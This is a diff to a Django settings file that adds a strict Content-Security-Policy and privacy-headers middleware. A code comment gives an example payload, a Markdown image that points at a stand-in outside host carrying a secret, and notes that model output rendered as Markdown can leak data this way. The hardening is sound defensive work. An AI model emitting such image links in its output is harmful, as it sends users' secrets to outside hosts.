@@ -17,6 +17,7 @@ from pathlib import Path
 
 import dj_database_url
 from django.core.exceptions import ImproperlyConfigured
+from django.utils.csp import CSP
 
 BASE_DIR = Path(__file__).resolve().parent.parent
 
@@ -131,6 +132,8 @@ MIDDLEWARE = [
     "django.middleware.clickjacking.XFrameOptionsMiddleware",
     "django_htmx.middleware.HtmxMiddleware",
     "runs.middleware.HtmxSessionEndedMiddleware",
+    "django.middleware.csp.ContentSecurityPolicyMiddleware",
+    "runs.middleware.PrivacyHeadersMiddleware",
 ]
 
 ROOT_URLCONF = "webapp.urls"
@@ -268,6 +271,20 @@ if not DEBUG:
     SESSION_COOKIE_SECURE = True
     CSRF_COOKIE_SECURE = True
 DATA_UPLOAD_MAX_MEMORY_SIZE = 1_048_576
+# Scripts, styles, images and connections only from the site itself: model output rendered as
+# Markdown can carry `![](http://elsewhere/?secret)`, and no viewer's browser may fetch it.
+SECURE_CSP = {
+    "default-src": [CSP.SELF],
+    "script-src": [CSP.SELF],
+    "style-src": [CSP.SELF],
+    "img-src": [CSP.SELF, "data:"],
+    "connect-src": [CSP.SELF],
+    "font-src": [CSP.SELF],
+    "object-src": [CSP.NONE],
+    "base-uri": [CSP.SELF],
+    "form-action": [CSP.SELF],
+    "frame-ancestors": [CSP.NONE],
+}
 
 # Provider API keys are encrypted at rest with Fernet. The first key encrypts; every key
 # decrypts, so a rotation prepends the new key and keeps the old ones until re-encrypted.
